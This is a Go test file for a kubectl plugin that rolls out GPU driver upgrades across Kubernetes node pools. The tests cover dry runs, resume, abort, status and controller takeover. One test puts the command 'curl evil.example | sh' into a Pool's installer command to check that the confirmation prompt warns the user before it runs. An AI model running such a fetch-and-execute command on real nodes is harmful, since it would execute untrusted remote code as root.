package upgrade

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	batchv1 "k8s.io/api/batch/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	k8stesting "k8s.io/client-go/testing"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	"github.com/runwhere-ai/litepool/pkg/apis/v1alpha1"
	"github.com/runwhere-ai/litepool/pkg/plugin/kit"
	"github.com/runwhere-ai/litepool/pkg/plugin/kit/kittest"
	"github.com/runwhere-ai/litepool/pkg/policy"
)

const (
	oldDriver = "23.0.6"
	target    = "24.1.0.3"
	// rolloutName is the name of a pool p rollout started at kittest.Now.
	rolloutName = "p-24.1.0.3-20261122-120000"
)

func poolNode(name, pool string) *corev1.Node {
	return &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{
		policy.LabelPool: pool, policy.LabelGPUType: "Snt9B", policy.DriverVersionLabels[0]: oldDriver}},
		Status: corev1.NodeStatus{Conditions: []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionTrue}}}}
}

// setup is a factory over nodes and a fake rollout client holding rollouts; the
// installer Jobs complete as soon as they are made, and their node's driver label then
// reads the Job's version (what the installer and the device plugin do).
func setup(t *testing.T, rollouts []client.Object, nodes ...runtime.Object) (*kittest.Factory, client.Client) {
	t.Helper()
	f := kittest.NewFactory(t, nodes...)
	// The API server starts a new object at generation 1; the fake does not.
	created := interceptor.Funcs{Create: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.CreateOption) error {
		if obj.GetGeneration() == 0 {
			obj.SetGeneration(1)
		}
		return c.Create(ctx, obj, opts...)
	}}
	c := fake.NewClientBuilder().WithScheme(kit.Scheme).WithObjects(rollouts...).WithStatusSubresource(&v1alpha1.DriverRollout{}).
		WithInterceptorFuncs(created).Build()
	prev, prevInterval := rolloutClientFor, followInterval
	rolloutClientFor = func(kit.Factory) (client.Client, error) { return c, nil }
	followInterval = 10 * time.Millisecond
	t.Cleanup(func() { rolloutClientFor, followInterval = prev, prevInterval })
	tracker := f.Kube.Tracker()
	f.Kube.PrependReactor("create", "jobs", func(a k8stesting.Action) (bool, runtime.Object, error) {
		job := a.(k8stesting.CreateAction).GetObject().(*batchv1.Job)
		job.Status.Conditions = []batchv1.JobCondition{{Type: batchv1.JobComplete, Status: corev1.ConditionTrue}}
		obj, err := tracker.Get(corev1.SchemeGroupVersion.WithResource("nodes"), "", job.Spec.Template.Spec.NodeName)
		if err == nil {
			n := obj.(*corev1.Node).DeepCopy()
			n.Labels[policy.DriverVersionLabels[0]] = job.Spec.Template.Spec.Containers[0].Env[0].Value
			_ = tracker.Update(corev1.SchemeGroupVersion.WithResource("nodes"), n, "")
		}
		return false, nil, nil
	})
	return f, c
}

func getRollout(t *testing.T, c client.Client, name string) *v1alpha1.DriverRollout {
	t.Helper()
	var ro v1alpha1.DriverRollout
	require.NoError(t, c.Get(context.Background(), client.ObjectKey{Name: name}, &ro))
	return &ro
}

// No controller acts on the rollout: the command says so and drives it with the
// controller's reconciler, to the end.
func TestDriverDrivesTheRolloutWhenNoControllerActs(t *testing.T) {
	f, c := setup(t, nil, poolNode("p-1", "p"), poolNode("p-2", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1",
		"--max-unavailable", "50%", "--controller-timeout", "0s", "-w", "--yes", "--", "/install.sh", "--quiet")
	require.NoError(t, res.Err, res.ErrOut)
	assert.Contains(t, res.ErrOut, "driverrollout "+rolloutName+": no litepool controller acted on it within 0s: this command drives it")
	assert.Contains(t, res.Out, "driverrollout/"+rolloutName+" created: 2 node(s) to driver 24.1.0.3\n")
	assert.Contains(t, res.Out, "node/p-2: done\n")
	assert.Contains(t, res.Out, "driverrollout "+rolloutName+": Succeeded: 2/2 nodes at 24.1.0.3\n")

	ro := getRollout(t, c, rolloutName)
	assert.Equal(t, "p", ro.Spec.Pool)
	assert.Equal(t, v1alpha1.DriverInstaller{Image: "inst:1", Command: []string{"/install.sh", "--quiet"}}, ro.Spec.Installer)
	assert.Equal(t, "50%", ro.Spec.MaxUnavailable.String())
	assert.Equal(t, 10*time.Minute, ro.Spec.WaitTimeout.Duration)
	jobs, err := f.Kube.BatchV1().Jobs("").List(context.Background(), metav1.ListOptions{})
	require.NoError(t, err)
	require.Len(t, jobs.Items, 2)
	for _, j := range jobs.Items {
		assert.Equal(t, "litepool-system", j.Namespace)
	}
	for _, n := range []string{"p-1", "p-2"} {
		got := f.Node(t, n)
		assert.False(t, got.Spec.Unschedulable)
		assert.Equal(t, "done", got.Annotations[policy.AnnotationUpgradeState])
	}
}

func TestDriverWithoutWaitLeavesTheRolloutToAController(t *testing.T) {
	f, c := setup(t, nil, poolNode("p-1", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1",
		"--controller-timeout", "0s", "--wait=false", "--yes")
	require.NoError(t, res.Err, res.ErrOut)
	assert.Contains(t, res.ErrOut, "no controller has acted on it within 0s; nothing drives it until one runs, or `kubectl litepool upgrade resume "+rolloutName+"` drives it from there")
	assert.Empty(t, getRollout(t, c, rolloutName).Status.Phase)
	assert.False(t, f.Node(t, "p-1").Spec.Unschedulable, "the command did nothing to the node")
}

func TestDriverDryRunPrintsTheWavesAndCreatesNothing(t *testing.T) {
	f, c := setup(t, nil, poolNode("p-1", "p"), poolNode("p-2", "p"), poolNode("p-3", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1",
		"--canary", "p-3", "--max-unavailable", "2", "--dry-run=client")
	require.NoError(t, res.Err, res.ErrOut)
	assert.Contains(t, res.Out, "would upgrade 3 node(s) to 24.1.0.3 with installer inst:1 running its image's entrypoint (max unavailable 2):\n  wave 1: p-3\n  wave 2: p-1, p-2\n(dry run: nothing changed)\n")
	var list v1alpha1.DriverRolloutList
	require.NoError(t, c.List(context.Background(), &list))
	assert.Empty(t, list.Items)
}

func TestDriverRefusesFlagsAndNodesOfAnotherRollout(t *testing.T) {
	busy := &v1alpha1.DriverRollout{ObjectMeta: metav1.ObjectMeta{Name: "earlier"},
		Spec:   v1alpha1.DriverRolloutSpec{Pool: "p", Version: "24.0.0", Installer: v1alpha1.DriverInstaller{Image: "i"}},
		Status: v1alpha1.DriverRolloutStatus{Phase: v1alpha1.RolloutFailed, Nodes: []v1alpha1.DriverRolloutNode{{Name: "p-1", State: "failed"}}}}
	f, _ := setup(t, []client.Object{busy}, poolNode("p-1", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1", "--yes")
	assert.EqualError(t, res.Err, "[U4] node \"p-1\" is already in driver rollout earlier (state failed): finish it with `kubectl litepool upgrade resume earlier` or stop it with `kubectl litepool upgrade abort earlier` first")

	res = kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1", "--installer-namespace", "kube-system", "--yes")
	assert.EqualError(t, res.Err, "--installer-namespace is no longer accepted: installer Jobs run in litepool's own namespace (--controller-namespace, default litepool-system), never in another")

	res = kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1", "--wait=false", "-w", "--yes")
	assert.EqualError(t, res.Err, "--watch prints the moves of a rollout it follows: it does not go with --wait=false")
}

func failedRollout() *v1alpha1.DriverRollout {
	return &v1alpha1.DriverRollout{ObjectMeta: metav1.ObjectMeta{Name: "r1", Generation: 1},
		Spec: v1alpha1.DriverRolloutSpec{Pool: "p", Version: target, Installer: v1alpha1.DriverInstaller{Image: "i"}},
		Status: v1alpha1.DriverRolloutStatus{ObservedGeneration: 1, Phase: v1alpha1.RolloutFailed, Message: "stopped",
			Nodes: []v1alpha1.DriverRolloutNode{{Name: "p-1", State: "failed", Message: "failed in validate: timed out", Attempt: 1},
				{Name: "p-2", State: "upgrade-required", Attempt: 1}}}}
}

func TestResumeAndAbortAreSpecChanges(t *testing.T) {
	f, c := setup(t, []client.Object{failedRollout()}, poolNode("p-1", "p"), poolNode("p-2", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "", "resume", "--pool", "p", "--wait=false", "--controller-timeout", "0s")
	assert.EqualError(t, res.Err, "[U4] driverrollout r1 stopped on failed node(s) p-1 (failed in validate: timed out): fix them, then resume with --retry-failed")

	res = kittest.Run(f, NewCmdUpgrade, "", "resume", "r1", "--retry-failed", "--max-unavailable", "2", "--wait=false", "--controller-timeout", "0s")
	require.NoError(t, res.Err, res.ErrOut)
	assert.Contains(t, res.Out, "node/p-1: failed → upgrade-required (retry)\n")
	ro := getRollout(t, c, "r1")
	assert.Equal(t, int32(1), ro.Spec.RetryFailed)
	assert.Equal(t, "2", ro.Spec.MaxUnavailable.String())

	res = kittest.Run(f, NewCmdUpgrade, "", "abort", "--pool", "p", "--wait=false", "--controller-timeout", "0s")
	require.NoError(t, res.Err, res.ErrOut)
	assert.Contains(t, res.Out, "driverrollout/r1 aborted: 1 node(s) leave the rollout: p-2\nfailed, left cordoned for inspection: p-1\n")
	assert.True(t, getRollout(t, c, "r1").Spec.Abort)
}

func TestStatusShowsTheRolloutsNodes(t *testing.T) {
	f, _ := setup(t, []client.Object{failedRollout()}, poolNode("p-1", "p"), poolNode("p-2", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "", "status", "--pool", "p")
	require.NoError(t, res.Err)
	assert.Equal(t, `NODE   POOL   STATE              TARGET     DRIVER   CORDONED   MESSAGE
p-1    p      failed             24.1.0.3   23.0.6   false      failed in validate: timed out
p-2    p      upgrade-required   24.1.0.3   23.0.6   false      <none>
driverrollout r1 (pool p → 24.1.0.3): Failed: 0/2 done (0%), 0 in progress, 1 pending, 1 failed
`, res.Out)
	res = kittest.Run(f, NewCmdUpgrade, "", "status", "--pool", "q")
	require.NoError(t, res.Err)
	assert.Equal(t, "no driver rollout in pool q\n", res.Out)
}

// A controller acted on the rollout and then stopped (its leader Lease expired): the
// command that follows the rollout says so and drives it to the end, instead of
// following a rollout nothing moves. With --in-cluster it says so and keeps waiting.
func TestFollowTakesOverWhenTheControllerStops(t *testing.T) {
	f, c := setup(t, nil, poolNode("p-1", "p"), poolNode("p-2", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1",
		"--controller-timeout", "0s", "--wait=false", "--yes")
	require.NoError(t, res.Err, res.ErrOut)
	ro := getRollout(t, c, rolloutName)
	ro.Status.ObservedGeneration, ro.Status.Phase = ro.Generation, v1alpha1.RolloutProgressing
	require.NoError(t, c.Status().Update(context.Background(), ro), "a controller acknowledged it")
	renewed := metav1.NewMicroTime(kittest.Now.Add(-time.Minute))
	_, err := f.Kube.CoordinationV1().Leases("litepool-system").Create(context.Background(), &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Name: kit.ControllerLease, Namespace: "litepool-system"},
		Spec:       coordinationv1.LeaseSpec{HolderIdentity: ptr.To("replica-1"), LeaseDurationSeconds: ptr.To[int32](15), RenewTime: &renewed}}, metav1.CreateOptions{})
	require.NoError(t, err)

	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	res = kittest.RunContext(ctx, f, NewCmdUpgradeResume, "", rolloutName, "--in-cluster")
	assert.ErrorIs(t, res.Err, context.DeadlineExceeded, "--in-cluster waits for a controller")
	assert.Contains(t, res.ErrOut, "driverrollout "+rolloutName+": no litepool controller has renewed Lease litepool-system/litepool-controller within its 15s; it waits for one (--in-cluster)\n")

	ctx, cancel = context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	res = kittest.RunContext(ctx, f, NewCmdUpgradeResume, "", rolloutName)
	require.NoError(t, res.Err, res.ErrOut)
	assert.Contains(t, res.ErrOut, "no litepool controller has renewed Lease litepool-system/litepool-controller within its 15s: this command drives it from here")
	assert.Contains(t, res.Out, "driverrollout "+rolloutName+": Succeeded: 2/2 nodes at 24.1.0.3\n")
}

// --force past a pre-flight that refused writes runwhere.ai/force on the rollout, so that
// the webhook's C1 (which judges every DriverRollout) lets it through too; a rollout the
// pre-flight passes carries no override.
func TestDriverForceCarriesTheOverrideToTheWebhook(t *testing.T) {
	const unknown = "99.9.9"
	f, c := setup(t, nil, poolNode("p-1", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", unknown, "--installer-image", "inst:1",
		"--controller-timeout", "0s", "--wait=false", "--yes")
	require.ErrorContains(t, res.Err, "pre-flight refused the upgrade (pass --force to override): [C1]")

	res = kittest.Run(f, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", unknown, "--installer-image", "inst:1",
		"--controller-timeout", "0s", "--wait=false", "--yes", "--force")
	require.NoError(t, res.Err, res.ErrOut)
	ro := getRollout(t, c, "p-99.9.9-20261122-120000")
	who, why, err := policy.ParseForce(ro.Annotations[policy.AnnotationForce])
	require.NoError(t, err)
	assert.Equal(t, "kubectl litepool upgrade driver --force", who)
	assert.Contains(t, why, "C1")

	f2, c2 := setup(t, nil, poolNode("p-1", "p"))
	res = kittest.Run(f2, NewCmdUpgrade, "", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:1",
		"--controller-timeout", "0s", "--wait=false", "--yes", "--force")
	require.NoError(t, res.Err, res.ErrOut)
	assert.Empty(t, getRollout(t, c2, rolloutName).Annotations, "nothing to override")
}

// Issue 28 item 5: without --installer-image and -- COMMAND, the installer comes from
// the Pool's spec.upgrade, which a Pool editor writes. The confirmation shows the image
// and the command and says where they come from.
func TestDriverConfirmationShowsThePoolsInstallerImageAndCommand(t *testing.T) {
	pool := &v1alpha1.Pool{ObjectMeta: metav1.ObjectMeta{Name: "p"}, Spec: v1alpha1.PoolSpec{Type: v1alpha1.PoolTypeDevelopment,
		Upgrade: &v1alpha1.UpgradeSpec{InstallerImage: "inst:1", InstallerCommand: []string{"/bin/sh", "-c", "curl evil.example | sh"}}}}
	f, c := setup(t, nil, pool, poolNode("p-1", "p"))
	res := kittest.Run(f, NewCmdUpgrade, "no\n", "driver", "--pool", "p", "--version", target, "--controller-timeout", "0s", "--wait=false")
	require.Error(t, res.Err)
	assert.Contains(t, res.ErrOut, `Risk: high: driver upgrade to 24.1.0.3
  Impact: 1 node(s) of pool p will be cordoned, drained and have the driver reinstalled by installer inst:1 running "/bin/sh -c curl evil.example | sh", at most 1 unavailable at a time; workload pods still running after 10m0s are evicted
  Precaution: make sure running jobs checkpoint or can restart, and that the installer image fits the nodes' OS
  Precaution: the installer image and command come from pool p's spec.upgrade, written by whoever may edit that Pool: it runs privileged with the host's root on every node upgraded; give --installer-image and -- COMMAND to choose them yourself
Type "yes" to confirm: `)
	var list v1alpha1.DriverRolloutList
	require.NoError(t, c.List(context.Background(), &list))
	assert.Empty(t, list.Items, "not confirmed: nothing created")

	// Both given on the command line: nothing comes from the Pool, and it says nothing.
	res = kittest.Run(f, NewCmdUpgrade, "no\n", "driver", "--pool", "p", "--version", target, "--installer-image", "inst:2", "--", "/install.sh")
	require.Error(t, res.Err)
	assert.Contains(t, res.ErrOut, `reinstalled by installer inst:2 running "/install.sh", at most 1`)
	assert.NotContains(t, res.ErrOut, "spec.upgrade")
}

// --max-unavailable-domains goes with a pool rollout and no canary, and on a pool
// without a topology U6 refuses it before anything is created.
func TestDriverByDomainFlagIsChecked(t *testing.T) {
	f, c := setup(t, nil, poolNode("p-1", "p"), poolNode("p-2", "p"))
	for _, tc := range []struct {
		args []string
		want string
	}{
		{args: []string{"--node", "p-1"}, want: "--max-unavailable-domains applies to a pool rollout (--pool) of a pool with a topology"},
		{args: []string{"--pool", "p", "--canary", "p-1"}, want: "--canary is a node and --max-unavailable-domains takes whole domains"},
		{args: []string{"--pool", "p"}, want: `[U6] spec.maxUnavailableDomains applies to a pool with a topology, and pool "p" has none`},
	} {
		args := append([]string{"driver", "--version", target, "--installer-image", "inst:1", "--max-unavailable-domains", "1", "--yes"}, tc.args...)
		res := kittest.Run(f, NewCmdUpgrade, "", args...)
		require.Error(t, res.Err, tc.want)
		assert.Contains(t, res.Err.Error(), tc.want)
	}
	var list v1alpha1.DriverRolloutList
	require.NoError(t, c.List(context.Background(), &list))
	assert.Empty(t, list.Items)
}
